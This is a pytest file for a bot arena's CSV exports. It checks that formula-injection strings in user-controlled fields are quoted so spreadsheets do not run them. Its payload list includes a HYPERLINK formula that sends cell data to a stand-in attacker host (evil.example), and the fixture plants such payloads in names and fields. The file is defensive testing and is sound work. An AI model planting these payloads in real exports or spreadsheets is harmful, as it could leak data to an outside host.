"""CSV injection: no cell of a CSV export is a formula a spreadsheet would run.

Every export is written by ``arena.api.exports.cell``; a string cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written with a single quote
before it (OWASP's "CSV Injection"), unless the whole string is a plain number
(``-3``, ``-0.5``); numbers (ints and floats) are written as numbers.  Here, every CSV
the arena serves, with hostile text in every free-text field a user controls: a bot's
owner and a webhook bot's version (``GET /``) and a connected bot's (its session's
``info.version``) through the API; the bots' and accounts' names, which the API
restricts (a letter or a digit first), written into the database as an older row or
another path could hold them."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from typing import Any

import pytest
from flask import Flask
from sqlalchemy import select, update

from arena.api.exports import cell, csv_text
from arena.models import Account, Bot, Rating
from tests.support.api import auth, tournament_body
from tests.test_connect_api import open_session
from tests.test_exports import play_matches

ORGANISER = "organiser-token-of-the-injections"
PASSWORD = "a long enough password 1"
PAYLOADS = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?")


# -- the cell rule ---------------------------------------------------------------------------
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_string_that_starts_a_formula_is_quoted(payload: str) -> None:
    assert cell(payload) == "'" + payload


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-3, "-3"),
        (-0.5, "-0.5"),
        (1512.25, "1512.25"),
        (0, "0"),
        ("-3", "-3"),  # a number that came as text: left alone
        ("-0.5", "-0.5"),
        ("-1e-05", "-1e-05"),
        ("12", "12"),
        ("-3+cmd", "'-3+cmd"),  # not a number: a formula
        ("-", "'-"),
        ("+3", "'+3"),  # no number is written with a plus: text, quoted
        ("-inf", "'-inf"),
        ("- 3", "'- 3"),
        ("-3\n", "'-3\n"),
        ("a=1", "a=1"),  # only the first character counts
        (" =1", " =1"),
        ("", ""),
        (None, ""),
        (True, "true"),
    ],
)
def test_numbers_stay_numbers_and_only_formulas_are_quoted(value: Any, written: str) -> None:
    assert cell(value) == written


def test_the_csv_module_still_escapes_a_quoted_cell() -> None:
    hyperlink = PAYLOADS[-1]
    text = csv_text([{"a": hyperlink, "b": "\r=1", "c": -2}], ["a", "b", "c"])
    assert text.splitlines()[1].startswith('"\'=HYPERLINK(""http://evil.example/?x=""&A2,')
    assert list(csv.reader(io.StringIO(text, newline="")))[1] == ["'" + hyperlink, "'\r=1", "-2"]


# -- every export, through the API ------------------------------------------------------------
def post(client: Any, path: str, body: dict[str, Any], **headers: str) -> dict[str, Any]:
    response = client.post(path, json=body, headers=headers)
    assert response.status_code == 201, response.get_json()
    return response.get_json()


@pytest.fixture
def hostile(
    make_app: Callable[..., Flask], info_bot: Callable[..., str], enqueued: list[int]
) -> dict[str, Any]:
    """The open arena: a round robin of a bot per payload, each owned (free text) by a
    payload and declaring one as its version.  A private event: an organiser's webhook
    bot and a connected bot per contestant, each declaring a payload as its version as
    it opens its session, in a qualifier.  Every match played; then the names of every
    bot and account are payloads (written into the database), and one bot's Elo is
    negative."""
    app = make_app(organiser_token=ORGANISER, rate_limits=False)
    client = app.test_client()
    admin = auth(ORGANISER)
    open_bots = []
    for i, payload in enumerate(PAYLOADS):
        body = {"name": f"open-{i}", "owner": payload, "games": ["cactus"]}
        body["endpoint"] = info_bot(games=["cactus"], version=payload)
        open_bots.append(post(client, "/api/bots", body)["id"])
    body = tournament_body(open_bots)
    open_cup = post(client, "/api/tournaments", body, **admin)["id"]

    olga = {"name": "olga", "password": PASSWORD, "role": "organiser"}
    organiser = auth(post(client, "/api/accounts", olga, **admin)["token"])
    event = post(
        client,
        "/api/events",
        {"name": "class", "games": ["cactus"], "visibility": "private"},
        **organiser,
    )
    reference = post(
        client,
        "/api/bots",
        {
            "name": "ref",
            "endpoint": info_bot(games=["cactus"], version=PAYLOADS[0]),
            "event_id": event["id"],
            "games": ["cactus"],
        },
        **organiser,
    )["id"]
    challengers = []
    for i, payload in enumerate(PAYLOADS):
        body = {"name": f"member{i}", "password": PASSWORD, "join_code": event["join_code"]}
        member = auth(post(client, "/api/accounts", body)["token"])
        body = {"name": f"conn-{i}", "connect": True, "event_id": event["id"], "games": ["cactus"]}
        bot = post(client, "/api/bots", body, **member)
        info = {"apiversion": "1", "name": payload, "version": payload, "games": ["cactus"]}
        open_session(client, bot, {**info, "sdk": payload})
        challengers.append(bot["id"])
    qualifier = {
        "name": "qualifier",
        "game": "cactus",
        "event_id": event["id"],
        "format": "qualifier",
        "bot_ids": [reference, *challengers],
        "challenger_ids": challengers,
        "seats_per_match": 2,
        "matches_per_bot": 2,
        "pass_rule": {"kind": "score", "min_score": 0.5},
    }
    event_cup = post(client, "/api/tournaments", qualifier, **organiser)["id"]
    play_matches(app, enqueued)

    # names the API refuses, as older rows (or another path) could hold them: written
    # past the models' validation, which trims them (a leading tab would go)
    with app.extensions["arena.db"].session() as session:
        for table in (Bot, Account):
            ids = session.scalars(select(table.id).order_by(table.id)).all()
            for i, row_id in enumerate(ids):
                name = f"{PAYLOADS[i % len(PAYLOADS)]}#{row_id}"  # names are unique
                session.execute(update(table).where(table.id == row_id).values(name=name))
        # an account's bot keeps its account's name as its owner (from its registration)
        ids = session.scalars(select(Bot.id).where(Bot.event_id.is_not(None))).all()
        for i, bot_id in enumerate(ids):
            owner = f"{PAYLOADS[i % len(PAYLOADS)]}#{bot_id}"
            session.execute(update(Bot).where(Bot.id == bot_id).values(owner=owner))
        negative = session.scalars(select(Rating).where(Rating.bot_id == open_bots[0])).one()
        negative.elo = -3.5
    return {
        "client": client,
        "organiser": organiser,
        "open_cup": open_cup,
        "event": event["id"],
        "event_cup": event_cup,
    }


NUMERIC = {
    "leaderboard": ("rank", "bot_id", "elo", "matches", "fitted_rating"),
    "roster": ("account_id", "bot_id", "matches"),
    "grades": ("tournament_id", "bot_id", "matches", "remaining", "wins", "score"),
    "standings": ("rank", "bot_id", "matches", "points", "wins", "mean_rank"),
    "versions": ("bot_id", "matches", "points", "wins", "mean_rank", "mean_score"),
    "crosstable": ("bot_id", "opponent_id", "wins", "draws", "losses"),
}
# (which table, who asks, the columns that hold a payload)
EXPORTS = {
    "/api/ratings/cactus.csv": ("leaderboard", None, ("bot", "owner")),
    "/api/events/{event}/leaderboard.csv": ("leaderboard", "organiser", ("bot", "owner")),
    "/api/events/{event}/leaderboard.csv?game=cactus": ("leaderboard", "organiser", ("bot",)),
    "/api/events/{event}/roster.csv": ("roster", "organiser", ("account", "bot", "version")),
    "/api/tournaments/{event_cup}/grades.csv": ("grades", "organiser", ("bot", "account")),
    "/api/tournaments/{open_cup}/standings.csv": ("standings", None, ("bot",)),
    "/api/tournaments/{event_cup}/standings.csv": ("standings", "organiser", ("bot",)),
    "/api/tournaments/{open_cup}/standings.csv?by=version": (
        "versions",
        None,
        ("bot", "version"),
    ),
    "/api/tournaments/{event_cup}/standings.csv?by=version": (
        "versions",
        "organiser",
        ("bot", "version"),
    ),
    "/api/tournaments/{open_cup}/crosstable.csv": ("crosstable", None, ("bot", "opponent")),
    "/api/tournaments/{event_cup}/crosstable.csv": ("crosstable", "organiser", ("bot", "opponent")),
}


def unquoted(text: str) -> str:
    """A payload as the export writes it, back (its quote and a name's ``#id``)."""
    assert text.startswith("'"), repr(text)
    return text[1:].rsplit("#", 1)[0] if "#" in text[1:] and text[-1].isdigit() else text[1:]


def check_export(hostile: dict[str, Any], path: str) -> None:
    table, who, columns = EXPORTS[path]
    response = hostile["client"].get(path.format(**hostile), headers=hostile[who] if who else {})
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
    assert rows, "an empty table proves nothing"
    for row in rows:
        for key, value in row.items():
            assert not value.startswith(DANGEROUS) or NUMBER.fullmatch(value), (key, value)
    # the payloads are there, each quoted and otherwise intact
    for column in columns:
        written = [row[column] for row in rows if row[column]]
        assert written, column
        assert {unquoted(value) for value in written} <= set(PAYLOADS), column
    seen = {unquoted(row[c]) for row in rows for c in columns if row[c]}
    assert len(seen) >= min(len(rows), 3), seen  # several payloads, not one
    # the numbers are numbers
    for row in rows:
        for key in NUMERIC[table]:
            if row[key] != "":
                float(row[key])
    if path == "/api/ratings/cactus.csv":
        assert "-3.5" in [row["elo"] for row in rows]  # a negative number, as a number


def test_no_cell_of_any_export_is_a_formula(hostile: dict[str, Any]) -> None:
    """Every export at once (the arena is slow to build); each one's failure named."""
    failures = {}
    for path in EXPORTS:
        try:
            check_export(hostile, path)
        except AssertionError as exc:
            failures[path] = str(exc)[:600]
    assert not failures, "\n".join(f"{path}: {why}" for path, why in failures.items())
